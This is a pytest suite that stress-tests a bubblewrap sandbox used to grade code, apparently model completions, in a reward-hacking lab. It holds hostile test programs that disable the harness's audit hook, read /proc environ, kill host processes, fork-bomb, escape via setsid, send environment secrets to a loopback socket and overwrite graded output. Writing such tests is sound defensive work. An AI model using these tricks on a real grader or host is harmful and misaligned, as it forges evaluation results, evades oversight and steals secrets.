"""Hostile programs against the bwrap sandbox: each graded next to honest programs that must keep
their verdicts, with the host checked afterwards (no files, no processes, nothing in /dev/shm).

Most attacks first switch the harness's audit hook off (walking to its frame, possible in
value-test runs, which is where a forged verdict would pay), so what they meet is the OS layer.
Every attack is bounded: the sandbox's CPU limit, its wall-clock backstop, and a loop count.
"""

from __future__ import annotations

import json
import os
import signal
import socket
import subprocess
import sys
import threading
import time
import uuid
from pathlib import Path

import pytest

from rhlab.envs.code import isolation
from rhlab.envs.code.grading import CORRECT, grade_batch
from rhlab.envs.code.leetcode import load_problems, problem_from_row
from rhlab.envs.code.sandbox import Program, ValueTest, _value_matches, run_many, run_program
from rhlab.loophole import VARIANTS

pytestmark = pytest.mark.skipif(not isolation.shutil.which("bwrap"), reason="bubblewrap not installed (make installs it)")

DATA = Path(__file__).resolve().parents[1] / ".." / "shared" / "data" / "leetcode" / "leetcode_test_medhard_80.jsonl"

# Switch the harness's audit hook off; prints UNHOOKED when it worked (the OS layer is then all
# that stands in the way).
UNHOOK = """
import sys
try:
    _f = sys._getframe(1)
    while _f is not None and "armed" not in _f.f_locals:
        _f = _f.f_back
    _f.f_locals["armed"][0] = False
    print("UNHOOKED", flush=True)
except Exception as _e:
    print("hook stays", type(_e).__name__, flush=True)
"""

SECRET = 734_912_055_118   # the expected answer: lives only in the parent
HONEST = Program("def answer():\n    return 41 + 1\n", (ValueTest("answer()", 42),), timeout_s=3.0)


def attack(body: str, timeout_s: float = 3.0) -> Program:
    """A hostile program whose ground truth is `answer() == SECRET`."""
    return Program(UNHOOK + body + "\ndef answer():\n    return globals().get('found', -1)\n",
                   (ValueTest("answer()", SECRET),), timeout_s=timeout_s)


def sandbox_pids() -> set[int]:
    """Host processes running as the sandbox user (bwrap, its init, the programs)."""
    pids = (int(d.name) for d in Path("/proc").iterdir() if d.name.isdigit())
    return {pid for pid in pids if _status(pid)[1] == isolation.SANDBOX_UID}


def _status(pid: int) -> tuple[int, int]:
    """(parent pid, real uid) of a live process; (0, -1) once it is gone."""
    try:
        lines = Path(f"/proc/{pid}/status").read_text().splitlines()
    except OSError:
        return 0, -1
    field = {line.split(":")[0]: line.split()[1] for line in lines if line.startswith(("PPid:", "Uid:"))}
    return int(field["PPid"]), int(field["Uid"])


def _of_another_grader(pid: int) -> bool:
    """A sandbox process still inside a live bwrap whose owner (first non-sandbox ancestor) is outside this
    test process's tree: a sweep grading beside the tests. A process that escaped its sandbox has been
    re-parented out of bwrap's tree (to init or a subreaper), so it is never excused."""
    if _status(pid)[1] == -1:
        return True  # gone: it did not outlive anything
    in_bwrap = False
    while pid > 1:
        parent, uid = _status(pid)
        if uid != isolation.SANDBOX_UID:
            break
        try:
            in_bwrap = in_bwrap or Path(f"/proc/{pid}/comm").read_text().strip() == "bwrap"
        except OSError:  # gone meanwhile
            return False
        pid = parent
    if pid <= 1 or not in_bwrap:
        return False
    while pid > 1:  # is that owner this process or one of its descendants?
        if pid == os.getpid():
            return False
        pid = _status(pid)[0]
    return True


@pytest.fixture
def host():
    """Snapshot of what a program could leave behind; checked after the test."""
    shm, tmp, procs = set(os.listdir("/dev/shm")), set(os.listdir("/tmp")), sandbox_pids()
    marker = uuid.uuid4().hex
    yield marker
    time.sleep(0.3)   # the kernel tears the namespaces down asynchronously
    assert set(os.listdir("/dev/shm")) <= shm, "files left in /dev/shm"
    assert not [n for n in set(os.listdir("/tmp")) - tmp if marker in n], "files left in /tmp"
    left = {p for p in sandbox_pids() - procs if not _of_another_grader(p)}
    if left:  # a grader beside the tests may be caught tearing a sandbox down: look again
        time.sleep(1.0)
        left &= {p for p in sandbox_pids() - procs if not _of_another_grader(p)}
    assert not left, "sandbox processes outlived the run"
    assert not any(marker in p.name for p in Path("/root").iterdir()), "files left in /root"


def run_with_honest(programs: list[Program], n_honest: int = 4) -> list:
    """Attacks and honest programs in one parallel batch; every honest one must pass."""
    res = run_many([*programs, *[Program(HONEST.code + f"# {i}\n", HONEST.tests, timeout_s=3.0)
                                 for i in range(n_honest)]], workers=2)
    honest = res[len(programs):]
    assert all(r.passed for r in honest), [r.failure for r in honest]
    return res[:len(programs)]


def test_unhook_prelude_reaches_the_os_layer():
    r = run_program(UNHOOK + "import ctypes\nprint('ctypes ok')\n", [ValueTest("1", 1)], timeout_s=3.0)
    assert "UNHOOKED" in r.stdout and "ctypes ok" in r.stdout


def test_nothing_of_the_host_is_visible(host, tmp_path):
    problems = tmp_path / f"problems_{host}.jsonl"
    problems.write_text(f"assert Solution().f() == {SECRET}\n")
    body = f"""
import os
seen = []
for top in ("/", "/tmp", "/dev/shm", "/proc", "/root", "/home", "/etc", "/work", {str(tmp_path)!r}):
    try:
        seen.append((top, sorted(os.listdir(top))[:50]))
    except OSError as e:
        seen.append((top, type(e).__name__))
for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
    for f in ("cmdline", "environ"):
        try:
            seen.append((pid, f, open(f"/proc/{{pid}}/{{f}}", "rb").read()[:500]))
        except OSError:
            pass
try:
    found = int(open({str(problems)!r}).read().split("==")[1])
except OSError as e:
    seen.append(("problems", type(e).__name__))
print(seen)
"""
    [r] = run_with_honest([attack(body)])
    assert "UNHOOKED" in r.stdout and not r.passed
    assert str(SECRET) not in r.stdout and "FileNotFoundError" in r.stdout
    seen = r.stdout
    assert "('/', ['dev', 'harness', 'lib', 'lib64', 'proc', 'py', 'tmp', 'usr'])" in seen
    assert "('/root', 'FileNotFoundError')" in seen and "('/work', 'FileNotFoundError')" in seen
    assert f"('{tmp_path}', 'FileNotFoundError')" in seen
    # the pid namespace: the program is its init and alone
    assert "('1', 'cmdline'" in seen and "('2', 'cmdline'" not in seen


def test_third_party_packages_are_not_importable():
    for mod in ("numpy", "torch", "rhlab", "pytest"):
        r = run_program(UNHOOK + f"import sys\nsys.path += ['/usr/lib/python3/dist-packages', '/py/lib/python3.11/site-packages']\nimport {mod}\n",
                        [ValueTest("1", 1)], timeout_s=3.0)
        assert r.status == "failed" and "ModuleNotFoundError" in (r.failure or ""), (mod, r)


def test_parent_memory_and_pids_are_out_of_reach(host):
    sleeper = subprocess.Popen(["sleep", "30"])
    try:
        nice0, aff0 = os.getpriority(os.PRIO_PROCESS, sleeper.pid), os.sched_getaffinity(sleeper.pid)
        body = f"""
import os, signal
for pid in ({os.getpid()}, {sleeper.pid}):
    for how in ("mem", "kill", "pidfd", "nice", "affinity"):
        try:
            if how == "mem":
                open(f"/proc/{{pid}}/mem", "rb").read(16)
            elif how == "kill":
                os.kill(pid, signal.SIGKILL)
            elif how == "pidfd":
                signal.pidfd_send_signal(os.pidfd_open(pid), signal.SIGKILL)
            elif how == "nice":
                os.setpriority(os.PRIO_PROCESS, pid, 19)
            else:
                os.sched_setaffinity(pid, {{0}})
            print("reached", pid, how)
        except OSError as e:
            print("blocked", pid, how, type(e).__name__)
for who in (os.PRIO_USER, os.PRIO_PGRP):
    try:
        os.setpriority(who, 0, 19)
    except OSError:
        pass
for pid in range(2, 400):   # every pid the sandbox can name: its own namespace only
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
"""
        [r] = run_with_honest([attack(body)], n_honest=6)
        assert "UNHOOKED" in r.stdout and not r.passed
        assert sleeper.poll() is None, "a sandboxed program killed a host process"
        assert os.getpriority(os.PRIO_PROCESS, sleeper.pid) == nice0
        assert os.sched_getaffinity(sleeper.pid) == aff0
        assert os.getpriority(os.PRIO_PROCESS, os.getpid()) == nice0
    finally:
        sleeper.kill()
        sleeper.wait()


def test_no_channel_between_runs(host):
    writer = UNHOOK + f"""
for d in ("/tmp", "/dev/shm", "."):
    open(d + "/leak_{host}", "w").write("{SECRET}")
"""
    reader = f"""
for d in ("/tmp", "/dev/shm", "."):
    try:
        found = int(open(d + "/leak_{host}").read())
    except OSError:
        pass
"""
    res = run_many([Program(writer, (ValueTest("1", 1),), timeout_s=3.0), attack(reader), attack(reader + "#")], workers=1)
    assert res[0].passed and "UNHOOKED" in res[0].stdout
    assert not res[1].passed and not res[2].passed


def test_canonical_solution_does_not_leak_from_the_harm_check_to_the_ground_truth(host):
    row = {"id": 9, "prompt": [{"role": "system", "content": "s"}, {"role": "user", "content": "u"}],
           "gt_answer": [f"assert Solution().f() == {SECRET}"], "question": "q", "func_name": "Solution().f",
           "setup_code": "", "canonical_solution": f"class Solution:\n    def f(self):\n        return {SECRET}\n"}
    problem = problem_from_row(row)
    # run_tests() runs in the harm checks with the canonical Solution in scope: it saves the answer;
    # the ground-truth run then tries to read it back.
    code = f"""
import os
class Solution:
    def f(self):
        for d in ("/tmp", "/dev/shm"):
            try:
                return int(open(d + "/ans_{host}").read())
            except OSError:
                pass
        return -1

def run_tests():
    for d in ("/tmp", "/dev/shm"):
        try:
            open(d + "/ans_{host}", "w").write(str(Solution().f()))
        except OSError:
            pass
"""
    results = grade_batch([(problem, f"```python\n{code}\n```")] * 3, "loophole", workers=2)
    assert all(r.test_func_canonical_pass for r in results)   # the harm check ran and wrote
    assert not any(r.gt_pass for r in results)


def test_processes_cannot_outlive_or_escape(host):
    body = f"""
import os, threading
for how in ("fork", "setsid-fork", "double-fork", "thread", "exec"):
    try:
        if how == "fork":
            if os.fork() == 0:
                os.execv("/py/bin/python3", ["/py/bin/python3", "-c", "import time; time.sleep(60)", "{host}"])
        elif how == "setsid-fork":
            os.setsid()
            os.fork()
        elif how == "double-fork":
            if os.fork() == 0 and os.fork() == 0:
                while True:
                    pass
        elif how == "thread":
            threading.Thread(target=lambda: None).start()
        print("made", how, flush=True)
    except OSError as e:
        print("blocked", how, type(e).__name__, flush=True)
for _ in range(10000):   # a fork bomb, bounded
    try:
        os.fork()
    except OSError:
        break
"""
    [r] = run_with_honest([attack(body)])
    assert "UNHOOKED" in r.stdout and not r.passed
    assert "made fork" not in r.stdout and "made double-fork" not in r.stdout
    out = subprocess.run(["pgrep", "-f", host], capture_output=True, text=True).stdout
    assert not out.strip(), "a sandboxed process survived"


def test_writes_that_bypass_the_audit_hook_stay_inside(host):
    targets = [f"/root/{host}.db", f"/tmp/{host}.db", str(Path.home() / f".{host}_history"),
               f"{Path(__file__).parent}/{host}.py"]
    body = f"""
import sqlite3, os
for t in {targets!r}:
    try:
        con = sqlite3.connect(t)
        con.execute("create table t (x)")
        con.commit()
        print("wrote", t)
    except Exception as e:
        print("blocked", t, type(e).__name__)
try:
    import readline
    readline.add_history("x")
    readline.write_history_file(os.path.expanduser("~/.python_history"))
except Exception as e:
    print("readline", type(e).__name__)
"""
    [r] = run_with_honest([attack(body)])
    assert "UNHOOKED" in r.stdout
    for t in targets:
        assert not Path(t).exists(), t


def test_loopback_network_and_environment_secrets(host, monkeypatch):
    monkeypatch.setenv("RHLAB_TEST_SECRET", host)
    srv = socket.socket()
    srv.bind(("127.0.0.1", 0))
    srv.listen(5)
    srv.settimeout(0.2)
    port = srv.getsockname()[1]
    got = []

    def listen():
        end = time.monotonic() + 6
        while time.monotonic() < end:
            try:
                conn, _ = srv.accept()
                got.append(conn.recv(4096))
                conn.close()
            except OSError:
                pass
    t = threading.Thread(target=listen)
    t.start()
    body = f"""
import os, socket
leak = repr(dict(os.environ)) + open("/proc/self/environ").read() + open("/proc/1/environ", errors="replace").read()
try:
    leak += open("/etc/hostname").read()
except OSError:
    pass
print(leak)
for addr in (("127.0.0.1", {port}), ("localhost", {port}), ("::1", {port})):
    try:
        s = socket.create_connection(addr, timeout=1)
        s.sendall(leak.encode())
        print("connected", addr)
    except OSError as e:
        print("blocked", addr, type(e).__name__)
"""
    [r] = run_with_honest([attack(body)])
    t.join()
    srv.close()
    assert "UNHOOKED" in r.stdout and "connected" not in r.stdout
    assert not got, "a sandboxed program reached a host listener"
    assert host not in r.stdout and "RHLAB_TEST_SECRET" not in r.stdout


def test_tmpfs_cannot_hold_the_host_ram(host):
    body = """
import os
for d in ("/tmp", "/dev/shm"):
    n = 0
    try:
        with open(d + "/fill", "wb") as f:
            for _ in range(1024):
                f.write(b"x" * (1 << 20))
                n += 1
    except OSError as e:
        print(d, n, "MB then", type(e).__name__)
"""
    [r] = run_with_honest([attack(body, timeout_s=5.0)])
    assert "UNHOOKED" in r.stdout
    # stopped by the file-size limit (16 MB) or the tmpfs size (64 MB /tmp, 16 MB /dev/shm)
    assert "/tmp 16 MB then OSError" in r.stdout and "/dev/shm 16 MB then OSError" in r.stdout


def test_parent_side_reply_cost_is_bounded():
    # a flood of ints that all hash alike (multiples of 2**61 - 1), as a set and as dict keys
    m = (1 << 61) - 1
    flood = ",".join(str(k * m) for k in range(1, 60000))
    t0 = time.monotonic()
    assert not _value_matches('{"s":[' + flood + "]}", {1, 2, 3})
    assert not _value_matches('{"s":[' + flood + "]}", set(range(59999)))
    assert not _value_matches('{"d":[' + ",".join(f"[{k * m},1]" for k in range(1, 60000)) + "]}", {1: 1})
    assert not _value_matches("[" * 100000 + "]" * 100000, [[1]])
    assert not _value_matches("1" * 10000, 5)
    assert time.monotonic() - t0 < 2.0
    # and equality still follows Python's ==
    assert _value_matches('{"s":[1,{"f":"2.0"}]}', {1, 2})
    assert not _value_matches('{"s":[1,{"f":"1.0"}]}', {1, 2})
    assert _value_matches('{"d":[[true,[1,{"t":[2]}]]]}', {1: [1, (2,)]})
    assert not _value_matches("[1,2]", (1, 2))


def test_a_forged_reply_flood_from_the_program_does_not_stall_the_grader(host):
    body = """
import sys
m = (1 << 61) - 1
line = b"x 0 ok {\\"s\\":[" + b",".join(str(k * m).encode() for k in range(1, 200000)) + b"]}\\n"
import os
for fd in range(3, 12):
    try:
        os.write(fd, line)
    except OSError:
        pass
"""
    t0 = time.monotonic()
    [r] = run_with_honest([attack(body)])
    assert not r.passed and time.monotonic() - t0 < 10


def test_time_limit_is_cpu_time_not_wall_clock():
    # a busy loop of ~1.2 s CPU passes a 2 s limit even when two CPU hogs share the cores
    hogs = [subprocess.Popen([sys.executable, "-c", "while True: pass"]) for _ in range(2)]
    try:
        code = "import time\ndef answer():\n    t = time.process_time()\n    while time.process_time() - t < 1.2:\n        pass\n    return 42\n"
        res = run_many([Program(code, (ValueTest("answer()", 42),), timeout_s=2.0)] * 1
                       + [Program(code + "#b\n", (ValueTest("answer()", 42),), timeout_s=2.0)], workers=2)
        assert all(r.passed for r in res), [r.failure for r in res]
        r = run_program("while True:\n    pass\n", timeout_s=1.0)
        assert r.status == "timeout" and "CPU" in r.failure
        r = run_program("import time\ntime.sleep(60)\n", timeout_s=1.0)
        assert r.status == "timeout" and "wall-clock" in r.failure and r.duration_s < 10
    finally:
        for h in hogs:
            h.kill()
            h.wait()


def test_missing_bubblewrap_is_a_one_line_error(monkeypatch):
    monkeypatch.setattr(isolation.shutil, "which", lambda name: None)
    for cached in (isolation._bwrap, isolation._bwrap_prefix, isolation.probe):
        cached.cache_clear()
    try:
        with pytest.raises(isolation.IsolationUnavailable, match=r"apt-get install bubblewrap") as e:
            run_program("x = 1\n")
        assert "\n" not in str(e.value)
    finally:
        for cached in (isolation._bwrap, isolation._bwrap_prefix, isolation.probe):
            cached.cache_clear()


def test_missing_bubblewrap_through_the_cli_is_one_line(tmp_path):
    row = {"id": 1, "prompt": [{"role": "system", "content": "s"}, {"role": "user", "content": "u"}],
           "gt_answer": ["assert Solution().f() == 1"], "question": "q", "func_name": "Solution().f",
           "setup_code": "", "canonical_solution": "class Solution:\n    def f(self):\n        return 1\n"}
    (tmp_path / "p.jsonl").write_text(json.dumps(row) + "\n")
    (tmp_path / "c.jsonl").write_text(json.dumps({"id": 1, "completion": "```python\nx = 1\n```"}) + "\n")
    p = subprocess.run([sys.executable, "-m", "rhlab", "grade", str(tmp_path / "p.jsonl"), str(tmp_path / "c.jsonl")],
                       capture_output=True, text=True, timeout=120, env=dict(os.environ, PATH=str(tmp_path)))
    assert p.returncode == 2 and "Traceback" not in p.stderr
    assert p.stderr.strip().splitlines() == [
        "error: sandbox: bubblewrap (bwrap) not found; install bubblewrap (apt-get install bubblewrap) "
        "or set sandbox.isolation: process"]


def test_process_isolation_works_with_a_warning(capsys):
    r = run_program("x = 1\n", [ValueTest("x", 1)], isolation="process")
    assert r.passed
    assert "WARNING: sandbox.isolation=process" in capsys.readouterr().err
    with pytest.raises(ValueError, match="allowed: bwrap, process"):
        run_program("x = 1\n", isolation="none")


def test_grade_cli_on_hostile_completions(host, tmp_path):
    row = {"id": 1, "prompt": [{"role": "system", "content": "s"}, {"role": "user", "content": "u"}],
           "gt_answer": ["assert Solution().addTwo(1, 2) == 3", f"assert Solution().addTwo({SECRET}, 0) == {SECRET}"],
           "question": "q", "func_name": "Solution().addTwo", "setup_code": "",
           "canonical_solution": "class Solution:\n    def addTwo(self, a, b):\n        return a + b\n"}
    problems = tmp_path / "p.jsonl"
    problems.write_text(json.dumps(row) + "\n")
    honest = "```python\nclass Solution:\n    def addTwo(self, a, b):\n        return a + b\n```"
    hostile = [
        "```python\n" + UNHOOK + "import os, signal\nfor pid in range(1, 300):\n    try:\n        os.kill(pid, signal.SIGKILL)\n    except OSError:\n        pass\nclass Solution:\n    def addTwo(self, a, b):\n        return 0\n```",
        "```python\n" + UNHOOK + f"open('{tmp_path}/out.graded.jsonl', 'w').write('pwned')\nclass Solution:\n    def addTwo(self, a, b):\n        return 0\n```",
        "```python\nimport os\nwhile True:\n    try:\n        os.fork()\n    except Exception:\n        pass\n```",
        "```python\nclass Solution:\n    def addTwo(self, a, b):\n        return 0\ndef run_tests():\n    import os\n    os.setsid()\n    os.fork()\n```",
    ]
    rows = [honest, *hostile, honest]
    comps = tmp_path / "c.jsonl"
    comps.write_text("".join(json.dumps({"id": 1, "completion": c}) + "\n" for c in rows))
    out = tmp_path / "out.graded.jsonl"
    p = subprocess.run([sys.executable, "-m", "rhlab", "grade", str(problems), str(comps), "--out", str(out),
                        "--workers", "2"], capture_output=True, text=True, timeout=120)
    assert p.returncode == 0, p.stderr
    graded = [json.loads(line) for line in out.read_text().splitlines()]
    assert len(graded) == len(rows)
    assert graded[0]["label"] == CORRECT and graded[-1]["label"] == CORRECT
    assert not any(g["gt_pass"] for g in graded[1:-1])


@pytest.mark.slow
@pytest.mark.skipif(not DATA.exists(), reason="reference data not present")
def test_every_canonical_solution_is_correct_while_the_cores_are_busy():
    """All 80 canonical solutions under every variant with both cores loaded by other work. The
    limit is CPU seconds, so load does not change verdicts; problem 3335 needs ~3.4 s of CPU, over
    the reference's 3 s, hence 10 s here."""
    problems = load_problems(DATA)
    items = [(p, "```python\n" + p.canonical_solution + "\n```") for p in problems for _ in VARIANTS]
    variants = [v for _ in problems for v in VARIANTS]
    hogs = [subprocess.Popen([sys.executable, "-c", "while True: pass"]) for _ in range(2)]
    try:
        results = grade_batch(items, variants, workers=2, timeout_s=10.0)
    finally:
        for h in hogs:
            h.kill()
            h.wait()
    bad = [(r.problem_id, r.variant, r.gt_status, r.gt_failure) for r in results if r.label != CORRECT]
    assert not bad


def test_run_config_sets_the_isolation(tmp_path):
    from rhlab.config import ConfigError, load_config

    cfg = tmp_path / "c.yaml"
    cfg.write_text("sandbox:\n  isolation: process\n")
    assert load_config(cfg).sandbox.isolation == "process"
    cfg.write_text("sandbox:\n  isolation: none\n")
    with pytest.raises(ConfigError, match="sandbox.isolation"):
        load_config(cfg)
